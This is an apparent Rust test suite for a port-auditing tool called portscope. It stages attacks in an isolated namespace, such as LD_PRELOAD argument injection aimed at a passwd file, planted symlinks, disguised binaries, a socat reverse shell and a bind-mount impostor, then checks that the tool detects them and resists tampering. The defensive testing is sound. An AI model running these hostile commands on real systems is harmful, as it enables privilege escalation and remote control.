//! Attacks on process identity and on what audit and close tell root to do (issue 23): every
//! suggested command is run for real, as root, in a scratch directory an attacker prepared, and
//! must act on nothing but what it names. The implants are staged inside a network namespace the
//! test creates, as user `nobody` where the attack is an unprivileged user's.

use crate::support;

use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use serde_json::Value;
use support::{Guard, Netns, first_line, portscope_in, run, skip_without_root};

const PYTHON: &str = "/usr/bin/python3";

/// A listener on the namespace's loopback; prints `ready` once bound.
const LISTEN: &str = "import socket,time\n\
    s=socket.socket();s.bind(('127.0.0.1',0));s.listen(1)\n\
    print('ready',flush=True)\ntime.sleep(120)\n";

/// `audit --json` inside `ns`.
fn audit_in(ns: &Netns) -> Value {
    let out = run(portscope_in(ns).args(["audit", "--json"]));
    serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
        panic!(
            "audit --json printed no JSON ({e}): {}\n{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        )
    })
}

/// The finding of `check` about `pid`, with its next step.
fn next_step(report: &Value, pid: u32, check: &str) -> String {
    report["findings"]
        .as_array()
        .expect("findings")
        .iter()
        .find(|f| f["process"]["pid"] == pid && f["check"] == check)
        .and_then(|f| f["next_step"].as_str())
        .unwrap_or_else(|| panic!("no {check} finding with a next step about {pid}: {report:#}"))
        .to_string()
}

/// `exe -c LISTEN` in `ns` as nobody, with `env` added; prints `ready` once listening.
fn stage_as_nobody(ns: &Netns, exe: &Path, env: &[(&str, &str)]) -> Guard {
    let mut cmd = ns.command("setpriv");
    cmd.args(["--reuid=65534", "--regid=65534", "--clear-groups", "--"])
        .arg(exe)
        .args(["-c", LISTEN])
        .stdin(Stdio::null())
        .stdout(Stdio::piped());
    if exe != Path::new(PYTHON) {
        // A copied interpreter cannot find its standard library next to itself.
        cmd.env("PYTHONHOME", "/usr");
    }
    for (name, value) in env {
        cmd.env(name, value);
    }
    let mut guard = Guard::spawn_with_stdio(&mut cmd);
    assert_eq!(first_line(&mut guard), "ready");
    guard
}

/// Runs a suggested command the way root would paste it: `sh -c` in `dir`, with the portscope
/// under test first on PATH (its `close` refuses without a terminal, which ends the `&&` chain
/// after the evidence steps).
fn paste_as_root(command: &str, dir: &Path) -> std::process::Output {
    let bin = Path::new(env!("CARGO_BIN_EXE_portscope")).parent().unwrap();
    Command::new("/bin/sh")
        .args(["-c", command])
        .current_dir(dir)
        .env("PATH", format!("{}:/usr/sbin:/usr/bin:/sbin:/bin", bin.display()))
        .stdin(Stdio::null())
        .output()
        .expect("run /bin/sh")
}

/// A world-writable scratch directory, as /tmp is, where the attacker may plant files.
fn scratch() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    std::fs::set_permissions(dir.path(), std::os::unix::fs::PermissionsExt::from_mode(0o777)).unwrap();
    dir
}

/// Every file below `dir`, relative to it.
fn files_below(dir: &Path) -> Vec<PathBuf> {
    let mut found = Vec::new();
    let mut todo = vec![dir.to_path_buf()];
    while let Some(d) = todo.pop() {
        for entry in std::fs::read_dir(&d).unwrap().flatten() {
            let path = entry.path();
            if entry.file_type().unwrap().is_dir() {
                todo.push(path.clone());
            }
            found.push(path.strip_prefix(dir).unwrap().to_path_buf());
        }
    }
    found
}

#[test]
fn ld_preload_words_are_operands_of_the_suggested_copy_never_options() {
    if skip_without_root("ld_preload_words_are_operands_of_the_suggested_copy_never_options") {
        return;
    }
    // The attacker's LD_PRELOAD makes `cp` copy its file into a directory of its choice (here a
    // stand-in for /etc) if the words become options.
    let stage_dir = scratch();
    let target = stage_dir.path().join("etc");
    std::fs::create_dir(&target).unwrap();
    let evil = stage_dir.path().join("evil");
    std::fs::create_dir(&evil).unwrap();
    std::fs::write(evil.join("passwd"), "root::0:0::/:/bin/sh\n").unwrap();
    let preload = format!(
        "--target-directory={} {}",
        target.display(),
        evil.join("passwd").display()
    );
    let ns = Netns::new("i23p");
    let implant = stage_as_nobody(&ns, Path::new(PYTHON), &[("LD_PRELOAD", &preload)]);
    let step = next_step(&audit_in(&ns), implant.pid(), "preload");

    let cwd = scratch();
    let out = paste_as_root(&step, cwd.path());
    assert!(
        !target.join("passwd").exists(),
        "the suggested command `{step}` wrote into the attacker's target directory: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        files_below(cwd.path())
            .iter()
            .any(|f| f.file_name() == Some("exe".as_ref())),
        "`{step}` kept no executable: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn the_evidence_step_never_writes_through_a_planted_link() {
    if skip_without_root("the_evidence_step_never_writes_through_a_planted_link") {
        return;
    }
    // An implant running from a world-writable directory is an alert whose next step keeps its
    // executable; it knows its own PID, so it plants every name it can predict in the directory
    // root will paste the step in.
    let home = scratch();
    let exe = home.path().join("implant");
    std::fs::copy(std::fs::canonicalize(PYTHON).unwrap(), &exe).unwrap();
    let ns = Netns::new("i23e");
    let implant = stage_as_nobody(&ns, &exe, &[]);
    let step = next_step(&audit_in(&ns), implant.pid(), "exe-location");

    let cwd = scratch();
    let victim = home.path().join("victim");
    std::fs::write(&victim, "precious\n").unwrap();
    for name in [
        format!("portscope-evidence-{}.bin", implant.pid()),
        format!("portscope-evidence-{}", implant.pid()),
        "exe".to_string(),
    ] {
        std::os::unix::fs::symlink(&victim, cwd.path().join(name)).unwrap();
    }
    let out = paste_as_root(&step, cwd.path());
    assert!(
        std::fs::read(&victim).unwrap() == b"precious\n",
        "`{step}` wrote through a planted link: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let kept: Vec<PathBuf> = files_below(cwd.path())
        .into_iter()
        .filter(|f| {
            let path = cwd.path().join(f);
            !path.is_symlink() && path.is_file()
        })
        .collect();
    assert_eq!(
        kept.len(),
        1,
        "`{step}` should keep exactly one fresh copy: {kept:?} {}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(
        std::fs::read(cwd.path().join(&kept[0])).unwrap(),
        std::fs::read(&exe).unwrap()
    );
}

#[test]
fn nobody_closing_roots_listener_by_pid_is_denied_not_nothing() {
    if skip_without_root("nobody_closing_roots_listener_by_pid_is_denied_not_nothing") {
        return;
    }
    let ns = Netns::new("i23n");
    let mut cmd = ns.command(PYTHON);
    cmd.args(["-c", LISTEN])
        .stdout(Stdio::piped())
        .stdin(Stdio::null());
    let mut roots = Guard::spawn_with_stdio(&mut cmd);
    assert_eq!(first_line(&mut roots), "ready");
    let pid = roots.pid().to_string();
    let out = run(ns
        .command("setpriv")
        .args(["--reuid=65534", "--regid=65534", "--clear-groups", "--"])
        .arg(env!("CARGO_BIN_EXE_portscope"))
        .args(["close", "--pid", &pid, "--yes"]));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(3), "{stderr}");
    assert!(stderr.contains("permission denied"), "{stderr}");
    assert!(
        std::fs::metadata(format!("/proc/{pid}")).is_ok(),
        "root's listener must still run"
    );
}

#[test]
fn invisible_characters_are_escaped_and_an_exe_path_is_escaped_once() {
    if skip_without_root("invisible_characters_are_escaped_and_an_exe_path_is_escaped_once") {
        return;
    }
    // nobody's copy of python named `ssh<ZERO WIDTH SPACE>d` (reads as `sshd`) in a directory
    // whose name carries an ESC sequence.
    let home = scratch();
    let dir = home.path().join("x\x1b[31m");
    std::fs::create_dir(&dir).unwrap();
    std::fs::set_permissions(&dir, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let exe = dir.join("ssh\u{200b}d");
    std::fs::copy(std::fs::canonicalize(PYTHON).unwrap(), &exe).unwrap();
    let ns = Netns::new("i23z");
    let _implant = stage_as_nobody(&ns, &exe, &[]);
    for args in [&["list"][..], &["audit"][..]] {
        let out = run(portscope_in(&ns).env("COLUMNS", "400").args(args));
        let text = String::from_utf8_lossy(&out.stdout);
        for invisible in ['\u{200b}', '\u{1b}'] {
            assert!(
                !text.contains(invisible),
                "{args:?} printed U+{:04X} raw:\n{text}",
                invisible as u32
            );
        }
        assert!(text.contains(r"ssh\u{200b}d"), "{args:?}:\n{text}");
        assert!(text.contains(r"x\e[31m/"), "{args:?}:\n{text}");
        assert!(!text.contains(r"\\e"), "{args:?} escaped twice:\n{text}");
    }
}

#[test]
fn a_namespace_skipped_for_want_of_descriptors_fails_the_run() {
    if skip_without_root("a_namespace_skipped_for_want_of_descriptors_fails_the_run") {
        return;
    }
    // A listener in a namespace of its own; portscope runs in the host's namespace and walks
    // every namespace, with few descriptors: at some limits a namespace's dump cannot open its
    // netlink socket. Whatever the limit, the answer is the listener or exit 4, never "nothing".
    let ns = Netns::new("i23s");
    let mut srv = support::python_listener(Some(&ns), "tcp", "127.0.0.1", 0);
    let port = first_line(&mut srv);
    for limit in 4..=40 {
        for args in [
            vec!["list", "-p", &port, "--json"],
            vec!["close", &port, "--dry-run", "--netns", &ns.name],
        ] {
            let out = run(Command::new("prlimit")
                .arg(format!("--nofile={limit}"))
                .arg("--")
                .arg(env!("CARGO_BIN_EXE_portscope"))
                .args(&args)
                .env("NO_COLOR", "1")
                .env_remove("PORTSCOPE_NETNS"));
            let stderr = String::from_utf8_lossy(&out.stderr);
            match out.status.code() {
                Some(0) if args[0] == "list" => {
                    let list: Value = serde_json::from_slice(&out.stdout).unwrap();
                    assert!(
                        list.as_array()
                            .unwrap()
                            .iter()
                            .any(|s| s["holders"][0]["pid"] == srv.pid()),
                        "--nofile={limit} {args:?}: {list} {stderr}"
                    );
                }
                Some(0) => assert!(
                    String::from_utf8_lossy(&out.stdout).contains(&srv.pid().to_string()),
                    "--nofile={limit} {args:?}: {stderr}"
                ),
                code => assert_eq!(code, Some(4), "--nofile={limit} {args:?}: {stderr}"),
            }
        }
    }
}

#[test]
fn a_holder_that_execs_while_close_asks_is_not_signalled() {
    if skip_without_root("a_holder_that_execs_while_close_asks_is_not_signalled") {
        return;
    }
    use std::io::{Read, Write};
    let ns = Netns::new("i23x");
    // The holder keeps its listener across exec (inheritable) and execs `sleep` on SIGUSR1.
    let script = "import os,signal,socket,time\n\
        s=socket.socket();s.bind(('127.0.0.1',0));s.listen(1);os.set_inheritable(s.fileno(),True)\n\
        signal.signal(signal.SIGUSR1,lambda *a:os.execv('/bin/sleep',['sleep','120']))\n\
        print(s.getsockname()[1],flush=True)\ntime.sleep(120)\n";
    let mut cmd = ns.command(PYTHON);
    cmd.args(["-c", script])
        .stdout(Stdio::piped())
        .stdin(Stdio::null());
    let mut holder = Guard::spawn_with_stdio(&mut cmd);
    let _port = first_line(&mut holder);
    let pid = holder.pid();

    let command = format!("{} close --pid {pid}", env!("CARGO_BIN_EXE_portscope"));
    let mut close = Guard::spawn_with_stdio(
        ns.command("script")
            .args(["-qec", &command, "/dev/null"])
            .env("NO_COLOR", "1")
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped()),
    );
    let mut stdout = close.0.stdout.take().unwrap();
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let mut buf = [0u8; 4096];
        while let Ok(n) = stdout.read(&mut buf) {
            if n == 0 || tx.send(buf[..n].to_vec()).is_err() {
                break;
            }
        }
    });
    let mut seen = Vec::new();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    while !String::from_utf8_lossy(&seen).contains("[y/N]") {
        let left = deadline.saturating_duration_since(std::time::Instant::now());
        match rx.recv_timeout(left) {
            Ok(chunk) => seen.extend(chunk),
            Err(_) => panic!("no prompt: {}", String::from_utf8_lossy(&seen)),
        }
    }
    // While the prompt waits, the holder becomes another program.
    support::send_signal(pid, libc::SIGUSR1);
    assert!(
        support::wait_until(5.0, || std::fs::read_link(format!("/proc/{pid}/exe"))
            .is_ok_and(|exe| exe.ends_with("sleep"))),
        "the holder did not exec"
    );
    close.0.stdin.take().unwrap().write_all(b"y\n").unwrap();
    let status = close.0.wait().unwrap();
    while let Ok(chunk) = rx.recv_timeout(std::time::Duration::from_secs(2)) {
        seen.extend(chunk);
    }
    let text = String::from_utf8_lossy(&seen);
    assert_eq!(status.code(), Some(5), "{text}");
    assert!(text.contains("sleep"), "names the new program: {text}");
    assert!(
        std::fs::read_link(format!("/proc/{pid}/exe")).is_ok_and(|exe| exe.ends_with("sleep")),
        "the changed holder was signalled: {text}"
    );
}

#[test]
fn a_listener_whose_main_thread_exited_keeps_its_owner() {
    if skip_without_root("a_listener_whose_main_thread_exited_keeps_its_owner") {
        return;
    }
    // The main thread calls pthread_exit: the leader is a zombie with an empty /proc/PID/fd,
    // and the listener lives on in the other thread's /proc/PID/task/TID/fd.
    let ns = Netns::new("i23t");
    let script = "import ctypes,socket,threading,time\n\
        s=socket.socket();s.bind(('127.0.0.1',0));s.listen(1)\n\
        threading.Thread(target=time.sleep,args=(120,)).start()\n\
        print(s.getsockname()[1],flush=True)\n\
        ctypes.CDLL(None).pthread_exit(None)\n";
    let mut cmd = ns.command("setpriv");
    cmd.args([
        "--reuid=65534",
        "--regid=65534",
        "--clear-groups",
        "--",
        PYTHON,
        "-c",
        script,
    ])
    .stdout(Stdio::piped())
    .stdin(Stdio::null());
    let mut holder = Guard::spawn_with_stdio(&mut cmd);
    let port = first_line(&mut holder);
    let pid = holder.pid();
    assert!(
        support::wait_until(5.0, || std::fs::read_to_string(format!("/proc/{pid}/stat"))
            .is_ok_and(|stat| stat.rsplit(") ").next().is_some_and(|s| s.starts_with('Z')))),
        "the leader did not become a zombie"
    );
    let out = run(portscope_in(&ns).args(["list", "-p", &port, "--json"]));
    let list: Value = support::json_ok(&out);
    assert_eq!(list[0]["holders"][0]["pid"], pid, "{list:#}");
    // And it is flagged: holding sockets behind a zombie leader hides them from ss and lsof.
    let out = run(portscope_in(&ns).args(["audit", "--json"]));
    let report: Value = serde_json::from_slice(&out.stdout).expect("audit JSON");
    let flagged = support::findings_about(&report, pid, "exited-leader");
    assert_eq!(flagged.len(), 1, "{report:#}");
    assert_eq!(flagged[0]["severity"], "warning", "{report:#}");
    let out = run(portscope_in(&ns).args(["close", &port, "--dry-run"]));
    let text = String::from_utf8_lossy(&out.stdout);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{text}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(text.contains(&pid.to_string()), "{text}");
    // And close stops it: the last check before the signal reads the same threads' table.
    let out = run(portscope_in(&ns).args(["close", &port, "--yes"]));
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        support::wait_until(5.0, || holder.0.try_wait().is_ok_and(|s| s.is_some())),
        "the holder still runs"
    );
}

#[test]
fn a_shell_fed_by_a_relay_that_holds_a_connection_is_a_reverse_shell() {
    if skip_without_root("a_shell_fed_by_a_relay_that_holds_a_connection_is_a_reverse_shell") {
        return;
    }
    if Command::new("socat").arg("-V").output().is_err() {
        eprintln!("skipping: socat is not installed (.ci/run installs it)");
        return;
    }
    let ns = Netns::new("i23r");
    // The operator's handler, then nobody's `socat TCP:…:PORT EXEC:/bin/sh`: the shell's stdio
    // are a socket pair to socat, which holds the connection.
    let mut handler = support::python(
        Some(&ns),
        "import socket,time\ns=socket.socket();s.bind(('127.0.0.1',0));s.listen(1)\n\
         print(s.getsockname()[1],flush=True)\nc,_=s.accept();time.sleep(120)\n",
    );
    let port = first_line(&mut handler);
    let mut cmd = ns.command("setpriv");
    cmd.args(["--reuid=65534", "--regid=65534", "--clear-groups", "--", "socat"])
        .arg(format!("TCP:127.0.0.1:{port}"))
        .arg("EXEC:/bin/sh")
        .stdin(Stdio::null())
        .stdout(Stdio::null());
    let relay = Guard::spawn_with_stdio(&mut cmd);
    let shell_started = support::wait_until(5.0, || {
        std::fs::read_to_string(format!("/proc/{}/task/{0}/children", relay.pid()))
            .is_ok_and(|c| !c.trim().is_empty())
    });
    assert!(shell_started, "socat started no shell");
    let report = audit_in(&ns);
    let found = support::findings_about(&report, relay.pid(), "shell-socket");
    assert!(
        found
            .iter()
            .any(|f| f["severity"] == "alert" && f["reason"].as_str().unwrap_or("").contains("reverse shell")),
        "{report:#}"
    );
}

#[test]
fn a_known_servers_name_from_an_unpackaged_path_on_its_port_is_a_disguise() {
    if skip_without_root("a_known_servers_name_from_an_unpackaged_path_on_its_port_is_a_disguise") {
        return;
    }
    // A copy of python named nginx under /opt, listening on 80 in the test's namespace.
    let opt = tempfile::Builder::new()
        .prefix("portscope-test-")
        .tempdir_in("/opt")
        .unwrap();
    let exe = opt.path().join("nginx");
    std::fs::copy(std::fs::canonicalize(PYTHON).unwrap(), &exe).unwrap();
    let ns = Netns::new("i23d");
    let mut cmd = ns.command(exe.to_str().unwrap());
    cmd.env("PYTHONHOME", "/usr")
        .args([
            "-c",
            "import socket,time\ns=socket.socket();s.bind(('0.0.0.0',80));s.listen(1)\n\
             print('ready',flush=True)\ntime.sleep(120)\n",
        ])
        .stdin(Stdio::null())
        .stdout(Stdio::piped());
    let mut copy = Guard::spawn_with_stdio(&mut cmd);
    assert_eq!(first_line(&mut copy), "ready");
    let report = audit_in(&ns);
    let found = support::findings_about(&report, copy.pid(), "unpackaged");
    assert!(
        found
            .iter()
            .any(|f| f["severity"] == "alert" && f["reason"].as_str().unwrap_or("").contains("disguise")),
        "{report:#}"
    );
}

#[test]
fn a_listener_passed_out_of_a_throwaway_namespace_is_seen_by_baseline_close_and_watch() {
    if skip_without_root("a_listener_passed_out_of_a_throwaway_namespace_is_seen_by_baseline_close_and_watch")
    {
        return;
    }
    // nobody binds a listener in a user+network namespace of its own, passes it over SCM_RIGHTS
    // to a process in the test's namespace and exits: the namespace lives on in the socket alone.
    let dir = scratch();
    let path = dir.path().join("pass");
    let ns = Netns::new("i23h");
    let portscope_all = || {
        let mut cmd = ns.command(env!("CARGO_BIN_EXE_portscope"));
        cmd.env_remove("PORTSCOPE_NETNS").env("NO_COLOR", "1");
        cmd
    };
    let mut watch = Guard::spawn_with_stdio(
        portscope_all()
            .args([
                "watch",
                "--json-lines",
                "--no-history",
                "--interval",
                "100ms",
                "--for",
                "20s",
            ])
            .stdout(Stdio::piped())
            .stderr(Stdio::null()),
    );
    let events = support::line_channel(watch.0.stdout.take().unwrap());
    let mut receiver = support::python(
        Some(&ns),
        &format!(
            "import socket,os,time\nu=socket.socket(socket.AF_UNIX);u.bind({path:?});os.chmod({path:?},0o777)\n\
             u.listen(1);print('ready',flush=True)\nc,_=u.accept()\n\
             m,anc,f,a=c.recvmsg(16,socket.CMSG_SPACE(4))\nprint('got',flush=True)\ntime.sleep(120)\n",
            path = path.to_str().unwrap()
        ),
    );
    let said = support::line_channel(receiver.0.stdout.take().unwrap());
    let next_line = || {
        said.recv_timeout(std::time::Duration::from_secs(5))
            .expect("the receiver answers")
    };
    assert_eq!(next_line(), "ready");
    let sender = "import socket,sys\ns=socket.socket();s.bind(('0.0.0.0',0));s.listen(8)\n\
        u=socket.socket(socket.AF_UNIX);u.connect(sys.argv[1])\n\
        u.sendmsg([b'x'],[(socket.SOL_SOCKET,socket.SCM_RIGHTS,s.fileno().to_bytes(4,'little'))])\n\
        print(s.getsockname()[1],flush=True)\n";
    let out = run(ns
        .command("setpriv")
        .args(["--reuid=65534", "--regid=65534", "--clear-groups", "--"])
        .args(["unshare", "-Urn", PYTHON, "-c", sender])
        .arg(&path));
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let port = String::from_utf8_lossy(&out.stdout).trim().to_string();
    assert_eq!(next_line(), "got");
    let pid = receiver.pid().to_string();

    let baseline = dir.path().join("baseline.json");
    let out = run(portscope_all().args(["baseline", "save"]).arg(&baseline));
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let saved = std::fs::read_to_string(&baseline).unwrap();
    assert!(saved.contains(&port), "baseline save missed port {port}: {saved}");
    let out = run(portscope_all().args(["close", &port, "--dry-run"]));
    let text = String::from_utf8_lossy(&out.stdout);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{text}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(text.contains(&pid), "close's plan names the holder {pid}: {text}");
    // watch takes a full look at least every FULL_EVERY (30) looks: 3 s at 100 ms.
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    let mut seen = Vec::new();
    while std::time::Instant::now() < deadline {
        match events.recv_timeout(std::time::Duration::from_millis(200)) {
            Ok(line) if line.contains("\"opened\"") && line.contains(&format!("\"port\":{port},")) => {
                return;
            }
            Ok(line) => seen.push(line),
            Err(_) => {}
        }
    }
    panic!("watch never reported port {port}: {seen:#?}");
}

#[test]
fn a_binary_bind_mounted_over_a_packaged_path_is_not_the_packaged_program() {
    if skip_without_root("a_binary_bind_mounted_over_a_packaged_path_is_not_the_packaged_program") {
        return;
    }
    let packaged = std::fs::canonicalize(PYTHON).unwrap();
    // nobody, in a user+mount namespace of its own, binds its own file over the packaged
    // interpreter's path and runs it: /proc/PID/exe shows the packaged path.
    let home = scratch();
    let evil = home.path().join("evil");
    std::fs::copy(&packaged, &evil).unwrap();
    std::fs::set_permissions(&evil, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let ns = Netns::new("i23b");
    let inner = format!(
        "mount --bind {} {} && exec {} -c \"$1\"",
        evil.display(),
        packaged.display(),
        packaged.display()
    );
    let mut cmd = ns.command("setpriv");
    cmd.args(["--reuid=65534", "--regid=65534", "--clear-groups", "--"])
        .args(["unshare", "-Urm", "/bin/sh", "-c", &inner, "sh", LISTEN])
        .stdin(Stdio::null())
        .stdout(Stdio::piped());
    let mut implant = Guard::spawn_with_stdio(&mut cmd);
    assert_eq!(first_line(&mut implant), "ready");
    let pid = implant.pid();
    assert_eq!(std::fs::read_link(format!("/proc/{pid}/exe")).unwrap(), packaged);

    let list = support::json_ok(&run(portscope_in(&ns).args(["list", "--json"])));
    let port = list
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["holders"][0]["pid"] == pid)
        .and_then(|s| s["local"]["port"].as_u64())
        .unwrap_or_else(|| panic!("no listener of {pid}: {list:#}"));
    // An allow rule for the packaged path must not cover the impostor.
    let allow = home.path().join("allow.toml");
    std::fs::write(
        &allow,
        format!("[[allow]]\nprogram = \"{}\"\nport = {port}\n", packaged.display()),
    )
    .unwrap();
    for extra in [&[][..], &["--allow", allow.to_str().unwrap()][..]] {
        let out = run(portscope_in(&ns).args(["audit", "--json"]).args(extra));
        let report: Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
            panic!("{e}: {}", String::from_utf8_lossy(&out.stderr));
        });
        let alert = report["findings"]
            .as_array()
            .unwrap()
            .iter()
            .find(|f| f["process"]["pid"] == pid && f["severity"] == "alert");
        assert!(
            alert.is_some_and(|f| f["reason"].as_str().unwrap_or("").contains("not the host's")),
            "{extra:?}: {report:#}"
        );
    }
}
